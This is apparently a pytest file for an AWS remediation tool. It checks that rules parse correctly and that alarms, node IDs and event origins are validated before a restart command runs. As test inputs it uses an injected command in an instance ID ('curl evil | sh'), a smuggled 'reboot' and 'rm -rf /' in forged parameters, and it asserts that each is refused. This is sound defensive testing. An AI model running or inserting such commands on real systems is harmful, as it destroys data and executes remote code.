"""Remediation rules and decisions: the one rule model, matching, finding the node, what runs. Pure: no AWS."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest
from fleetwave.core.remediation import (
    AlarmDescription,
    AlarmStateChange,
    RefusalCode,
    RuleError,
    StormStart,
    admit_storm,
    check_alarm,
    check_origin,
    decide_verification,
    match_rule,
    missing_tags,
    parse_rule,
    parse_rules,
    resolve_target,
)
from fleetwave_local.twin import alarm_state_change_event

NODE = "i-0123456789abcdef0"
NOW = datetime(2026, 1, 2, 10, 15, tzinfo=UTC)


def rule(**changes):
    base = {
        "name": "restart-nginx",
        "alarm_prefix": "web-nginx-down-",
        "document": "AWS-RunShellScript",
        "parameters": {"commands": ["systemctl restart nginx"]},
        "target": "dimension:InstanceId",
        "cooldown_minutes": 30,
        "max_per_hour": 5,
    }
    base.update(changes)
    return parse_rule({k: v for k, v in base.items() if v is not None})


def event(name="web-nginx-down-1", **kwargs) -> AlarmStateChange:
    kwargs.setdefault("dimensions", {"InstanceId": NODE})
    return AlarmStateChange.model_validate(alarm_state_change_event(name, event_id="e-1", at=NOW, **kwargs))


# ---------------------------------------------------------------------------------------- the rule model
def test_a_rule_normalizes_parameters_like_a_spec_and_round_trips_through_the_environment():
    parsed = rule(parameters={"commands": "systemctl restart nginx", "executionTimeout": 60})
    assert parsed.parameters == {"commands": ["systemctl restart nginx"], "executionTimeout": ["60"]}
    [again] = parse_rules(json.dumps([parsed.to_json()]))
    assert again == parsed
    # Defaults stay out of the environment (Lambda gives all variables 4 KB)
    assert "document_version" not in parsed.to_json() and "verify_minutes" not in parsed.to_json()


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"alarm_names": ["a"]}, [("", "give exactly one of alarm_names, alarm_prefix, alarm_tags")]),
        ({"alarm_prefix": None}, [("", "give exactly one of alarm_names, alarm_prefix, alarm_tags")]),
        (
            {"name": "r" * 55},
            [("name", f"'{'r' * 55}' is not a rule name (letters, digits, '.', '_', '-'; at most 54)")],
        ),
        (
            {"target": "instance"},
            [("target", "'instance' is not 'dimension:<Name>' (e.g. dimension:InstanceId) or 'tag:<Key>'")],
        ),
        ({"max_per_hour": True}, [("max_per_hour", "True is not a positive whole number")]),
        ({"verify_minutes": 0}, [("verify_minutes", "0 is not a positive whole number")]),
        ({"commands": ["rm -rf /"]}, [("commands", "unknown field")]),
        ({"document": "arn:aws:ssm:::document/X"}, [("document", "'arn:aws:ssm:::document/X' is not a document name")]),
    ],
)
def test_rule_problems_name_their_field(changes, expected):
    with pytest.raises(RuleError) as raised:
        rule(**changes)
    assert raised.value.located == expected


def test_bad_rules_in_the_environment_are_reported_by_index():
    with pytest.raises(RuleError) as raised:
        parse_rules(json.dumps([rule().to_json(), {**rule().to_json(), "cooldown_minutes": 0}]))
    assert raised.value.problems == ["[1].cooldown_minutes: 0 is not a positive whole number"]


# ---------------------------------------------------------------------------------------- matching
def test_name_rules_match_before_tag_rules_and_tag_rules_need_the_tags():
    by_tag = rule(name="by-tag", alarm_prefix=None, alarm_tags={"fleetwave:remediate": "restart-nginx"})
    by_name = rule(name="by-name", alarm_prefix=None, alarm_names=["web-nginx-down-1"])
    by_prefix = rule(name="by-prefix")
    rules = [by_tag, by_prefix, by_name]
    # Name rules (exact or prefix) in configuration order, before any tag rule
    assert match_rule(rules, "web-nginx-down-1") == by_prefix
    assert match_rule([by_tag, by_name], "web-nginx-down-1") == by_name
    # An alarm no name rule claims needs its tags, and then matches by them
    assert match_rule(rules, "db-disk-full") is None
    assert match_rule(rules, "db-disk-full", {"fleetwave:remediate": "restart-nginx"}) == by_tag
    assert match_rule(rules, "db-disk-full", {"fleetwave:remediate": "other"}) is None


# ---------------------------------------------------------------------------------------- finding the node
def alarm(kind="metric", state="ALARM", **dimensions) -> AlarmDescription:
    """The alarm as DescribeAlarms holds it (dimension name -> values)."""
    dims = dimensions if dimensions or kind == "composite" else {"InstanceId": (NODE,)}
    return AlarmDescription(
        "web-nginx-down-1", "arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-nginx-down-1", kind, state, dims
    )


def test_the_node_comes_from_the_alarms_own_instance_id_dimension_not_from_the_event():
    assert resolve_target(rule(), alarm()).instance_id == NODE
    # Whatever the event says is not even looked at here
    assert resolve_target(rule(), alarm(InstanceId=("i-0fedcba9876543210",))).instance_id == "i-0fedcba9876543210"


@pytest.mark.parametrize(
    ("described", "problem", "code"),
    [
        (alarm("composite"), "no InstanceId dimension (a composite alarm)", RefusalCode.NO_NODE),
        (alarm(AutoScalingGroupName=("web",)), "no InstanceId dimension (its metrics)", RefusalCode.NO_NODE),
        (
            alarm(InstanceId=("i-0123; curl evil | sh",)),
            "the dimension:InstanceId value is not a managed node ID",
            RefusalCode.NOT_A_NODE_ID,
        ),
        (
            alarm(InstanceId=("i-0123456789ABCDEF0",)),
            "the dimension:InstanceId value is not a managed node ID",
            RefusalCode.NOT_A_NODE_ID,
        ),
        # A trailing newline does not slip through the pattern ($ would match before it; \Z does not)
        (
            alarm(InstanceId=(f"{NODE}\n",)),
            "the dimension:InstanceId value is not a managed node ID",
            RefusalCode.NOT_A_NODE_ID,
        ),
        (
            alarm(InstanceId=(NODE, "i-0fedcba9876543210")),
            "2 different InstanceId dimensions: ambiguous",
            RefusalCode.NO_NODE,
        ),
    ],
)
def test_no_node_is_found_for_composite_alarms_or_values_that_are_not_node_ids(described, problem, code):
    target = resolve_target(rule(), described)
    assert target.instance_id is None and target.problem == problem and target.code == code


def test_a_tag_target_reads_the_alarms_tag():
    tagged = rule(target="tag:fleetwave:instance")
    assert resolve_target(tagged, alarm("composite"), {"fleetwave:instance": NODE}).instance_id == NODE
    assert resolve_target(tagged, alarm("composite"), {}).problem == "no tag fleetwave:instance on the alarm"


def test_an_event_is_checked_against_this_account_region_and_the_alarm_it_names():
    own = {"partition": "aws", "account": "123456789012", "region": "us-east-1"}
    assert check_origin(event(), **own) is None
    assert check_origin(event(account="999999999999"), **own).code == RefusalCode.FOREIGN_ACCOUNT
    assert check_origin(event(region="eu-west-1"), **own).code == RefusalCode.FOREIGN_REGION
    forged = event().model_copy(update={"resources": ["arn:aws:cloudwatch:us-east-1:999999999999:alarm:x"]})
    assert check_origin(forged, **own).code == RefusalCode.FOREIGN_ALARM_ARN
    # The alarm must exist, be in ALARM now, and say what the event says
    assert check_alarm(event(), alarm()) is None
    assert check_alarm(event(), None).code == RefusalCode.ALARM_NOT_FOUND
    assert check_alarm(event(), alarm(state="OK")).code == RefusalCode.ALARM_NOT_IN_ALARM
    assert check_alarm(event(), alarm("composite")).code == RefusalCode.EVENT_CONTRADICTS_ALARM
    other = alarm(InstanceId=("i-0fedcba9876543210",))
    assert check_alarm(event(), other).code == RefusalCode.EVENT_CONTRADICTS_ALARM
    # A composite alarm's own event carries no metrics: nothing to contradict
    assert check_alarm(event(composite=True), alarm("composite")) is None


def test_missing_tags_lists_each_required_tag_the_node_lacks():
    assert missing_tags({"role": "web", "fleetwave:managed": "true"}, {"role": "db"}) == [
        "fleetwave:managed=true",
        "role=web",
    ]
    assert missing_tags({"role": "web"}, {"role": "web", "env": "prod"}) == []


# ---------------------------------------------------------------------------------------- what runs
def test_the_rollout_runs_only_what_the_rule_says_on_the_one_node():
    spec = rule(document_version=3).rollout_spec(NODE)
    assert spec.name == "remediate-restart-nginx"
    assert spec.document.name == "AWS-RunShellScript" and spec.document.version == "3"
    assert spec.document.parameters == {"commands": ["systemctl restart nginx"]}
    assert spec.targets.instance_ids == [NODE] and not spec.targets.tags
    assert [str(w) for w in spec.waves] == ["100%"] and spec.error_budget.allowed.count == 0
    # No alarm text anywhere in what is sent: no comment, a description naming only the rule
    assert spec.comment is None and spec.description == "fleetwave remediation rule restart-nginx"
    with pytest.raises(ValueError, match="not a managed node ID"):
        rule().rollout_spec("i-1; reboot")


def test_the_event_model_reads_what_aws_documents_and_ignores_the_rest():
    data = alarm_state_change_event("web-nginx-down-1", event_id="e", at=NOW, dimensions={"InstanceId": NODE})
    data["detail"]["parameters"] = {"commands": ["rm -rf /"]}
    data["document"] = "AWS-RunRemoteScript"
    parsed = AlarmStateChange.model_validate(data)
    assert parsed.alarm_name == "web-nginx-down-1"
    assert parsed.resources == ["arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-nginx-down-1"]
    assert parsed.dimension_values("InstanceId") == [NODE]
    assert "parameters" not in parsed.model_dump() and "document" not in parsed.model_dump()
    with pytest.raises(ValueError, match="not a 'CloudWatch Alarm State Change' event"):
        AlarmStateChange.model_validate({**data, "source": "custom.forged"})


# ---------------------------------------------------------------------------------------- storm and verification
def test_the_storm_breaker_is_a_sliding_window_not_a_clock_hour():
    # Given two starts at 10:59 with a limit of 2 per hour
    at_1059 = datetime(2026, 1, 2, 10, 59, tzinfo=UTC)
    starts = [StormStart(at_1059, "e-1"), StormStart(at_1059 + timedelta(seconds=10), "e-2")]
    # At 11:00 (a new clock hour) the window still holds both: refused, with when the first leaves it
    refused = admit_storm(starts, event_id="e-3", now=at_1059 + timedelta(minutes=1), limit=2)
    assert not refused.admitted and refused.count == 2 and refused.free_at == at_1059 + timedelta(hours=1)
    # An hour after the first start, one slot is free
    admitted = admit_storm(starts, event_id="e-3", now=at_1059 + timedelta(hours=1, seconds=1), limit=2)
    assert admitted.admitted and admitted.count == 2
    assert [s.event_id for s in admitted.starts] == ["e-2", "e-3"]  # the old start is dropped from the item
    # A redelivered event is counted once: admitted again, nothing added
    again = admit_storm(admitted.starts, event_id="e-3", now=at_1059 + timedelta(hours=1, seconds=5), limit=2)
    assert again.admitted and again.starts == admitted.starts and again.count == 2


def test_verification_waits_for_the_run_then_for_the_alarm():
    window = timedelta(minutes=10)
    assert decide_verification("RUNNING", None, NOW, window).recheck_at == NOW + window
    assert decide_verification("SUCCEEDED", NOW - timedelta(minutes=4), NOW, window).recheck_at == NOW + timedelta(
        minutes=6
    )
    assert decide_verification("SUCCEEDED", NOW - window, NOW, window).action == "check_alarm"
    # A run that failed is reported by its own rollout summary, not verified
    assert decide_verification("HALTED", NOW, NOW, window).action == "done"
